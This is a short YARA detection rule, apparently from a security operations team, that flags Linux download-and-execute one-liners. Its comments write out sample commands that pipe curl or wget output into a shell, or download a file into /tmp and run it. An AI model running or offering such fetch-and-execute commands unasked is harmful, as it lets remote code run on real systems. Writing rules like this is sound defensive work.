// citysoc YARA rules: download-and-run one-liners on Linux servers.

rule linux_download_execute : execution linux
{
    meta:
        id = "citysoc-yara-linux-download-execute"
        description = "Linux download-and-execute: curl/wget piped into a shell, or a download made executable in a temp directory"
        level = "high"
        attack = "attack.execution, attack.t1059.004, attack.command-and-control, attack.t1105"
        author = "citysoc SOC"
    strings:
        // curl -fsSL http://x/i.sh | bash ; wget -qO- http://x | sh
        $pipe_shell = /\b(curl|wget)\s[^|;\r\n]{0,200}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?(ba|da|z)?sh\b/
        // wget http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a
        $chmod_tmp = /\b(curl|wget)\s[^\r\n]{0,200}(;|&&)\s*chmod\s+(\+x|[0-7]?[0-7]{2}7|a\+x|u\+x)\s+\/(tmp|dev\/shm|var\/tmp)\//
        // bash <(curl -s http://x)
        $process_subst = /\b(ba|z)?sh\s+<\(\s*(curl|wget)\s/
    condition:
        any of them
}
